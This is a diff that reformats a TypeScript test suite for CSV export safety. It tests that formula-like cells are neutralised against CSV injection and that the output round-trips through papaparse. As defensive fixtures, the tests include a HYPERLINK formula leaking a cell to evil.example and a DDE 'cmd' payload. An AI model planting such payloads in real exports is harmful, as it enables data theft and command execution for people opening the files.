@@ -20,7 +20,10 @@ function openInSpreadsheet(bytes: Buffer): Array<{ v: unknown; f?: string }> {
 describe('neutraliseCell (OWASP CSV injection)', () => {
   it.each([
     ['=1+1', "'=1+1"],
-    ['=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")', `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`],
+    [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")',
+      `'=HYPERLINK("http://evil.example/?leak="&A1,"Click for details")`,
+    ],
     ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
     ['+44 20 7946 0000', "'+44 20 7946 0000"],
     ['-2+3', "'-2+3"],
@@ -40,20 +43,28 @@ describe('neutraliseCell (OWASP CSV injection)', () => {
     expect(restoreCell(expected)).toBe(input);
   });
 
-  it.each(['', 'Agree', 'a=b', '1+1', "It's fine", "'quoted'", 'Ms O’Brien', '100%', ' leading space'])('%j is left alone', (v) => {
-    expect(neutraliseCell(v)).toBe(v);
-    expect(restoreCell(v)).toBe(v);
-  });
+  it.each(['', 'Agree', 'a=b', '1+1', "It's fine", "'quoted'", 'Ms O’Brien', '100%', ' leading space'])(
+    '%j is left alone',
+    (v) => {
+      expect(neutraliseCell(v)).toBe(v);
+      expect(restoreCell(v)).toBe(v);
+    },
+  );
 
   it('restoreCell undoes neutraliseCell for any text, and the result never starts a formula', () => {
     fc.assert(
-      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', "'", 'a', '1', '＝', '\u3000', 'é') }), (v) => {
-        const n = neutraliseCell(v);
-        expect(restoreCell(n)).toBe(v);
-        // After any leading quote the spreadsheet shows text: the first character is a quote or not a trigger.
-        if (isFormulaLike(v)) expect(n.startsWith("'")).toBe(true);
-        else expect(n).toBe(v);
-      }),
+      fc.property(
+        fc.string({
+          unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', ' ', "'", 'a', '1', '＝', '\u3000', 'é'),
+        }),
+        (v) => {
+          const n = neutraliseCell(v);
+          expect(restoreCell(n)).toBe(v);
+          // After any leading quote the spreadsheet shows text: the first character is a quote or not a trigger.
+          if (isFormulaLike(v)) expect(n.startsWith("'")).toBe(true);
+          else expect(n).toBe(v);
+        },
+      ),
       { numRuns: 2000 },
     );
   });
@@ -70,14 +81,22 @@ describe('toCsv', () => {
       ['5', ' padded '],
       [''],
     ]);
-    expect(csv).toBe('\ufeffid,text\r\n1,plain\r\n2,"has, comma"\r\n3,"has ""quotes"""\r\n4,"two\nlines"\r\n5," padded "\r\n""\r\n');
+    expect(csv).toBe(
+      '\ufeffid,text\r\n1,plain\r\n2,"has, comma"\r\n3,"has ""quotes"""\r\n4,"two\nlines"\r\n5," padded "\r\n""\r\n',
+    );
     expect(toCsv([['a']], { bom: false })).toBe('a\r\n');
   });
 
   it('a spreadsheet program opening the written file finds no formula (and would without neutralising)', () => {
     const dir = mkdtempSync(join(tmpdir(), 'csv-safety-'));
     try {
-      const rows = [['answer'], ['=HYPERLINK("http://evil.example","Click")'], ['=1+1'], ['@SUM(1,2)'], ['Normal answer']];
+      const rows = [
+        ['answer'],
+        ['=HYPERLINK("http://evil.example","Click")'],
+        ['=1+1'],
+        ['@SUM(1,2)'],
+        ['Normal answer'],
+      ];
       const safe = join(dir, 'safe.csv');
       const unsafe = join(dir, 'unsafe.csv');
       writeFileSync(safe, toCsv(rows), 'utf8');
@@ -94,7 +113,12 @@ describe('toCsv', () => {
     }
   });
 
-  const cell = fc.string({ unit: fc.oneof(fc.constantFrom(',', '"', '\r', '\n', '\r\n', ' ', '=', '+', '-', '@', "'", '\t', 'é', '£', '€'), fc.string({ unit: 'binary', minLength: 1, maxLength: 1 })) });
+  const cell = fc.string({
+    unit: fc.oneof(
+      fc.constantFrom(',', '"', '\r', '\n', '\r\n', ' ', '=', '+', '-', '@', "'", '\t', 'é', '£', '€'),
+      fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
+    ),
+  });
   const rows = fc.array(fc.array(cell, { minLength: 1, maxLength: 5 }), { minLength: 1, maxLength: 8 });
 
   it('round-trips any rows through papaparse (after restoring neutralised cells)', () => {
@@ -142,10 +166,13 @@ describe('parseCsv', () => {
 
   it('agrees with papaparse on arbitrary well-formed CSV written by papaparse', () => {
     fc.assert(
-      fc.property(fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 6 }), (r) => {
-        const text = Papa.unparse(r, { quotes: true, newline: '\r\n' });
-        expect(parseCsv(text)).toEqual(Papa.parse<string[]>(text, { newline: '\r\n', delimiter: ',' }).data);
-      }),
+      fc.property(
+        fc.array(fc.array(fc.string(), { minLength: 2, maxLength: 4 }), { minLength: 1, maxLength: 6 }),
+        (r) => {
+          const text = Papa.unparse(r, { quotes: true, newline: '\r\n' });
+          expect(parseCsv(text)).toEqual(Papa.parse<string[]>(text, { newline: '\r\n', delimiter: ',' }).data);
+        },
+      ),
       { numRuns: 300 },
     );
   });
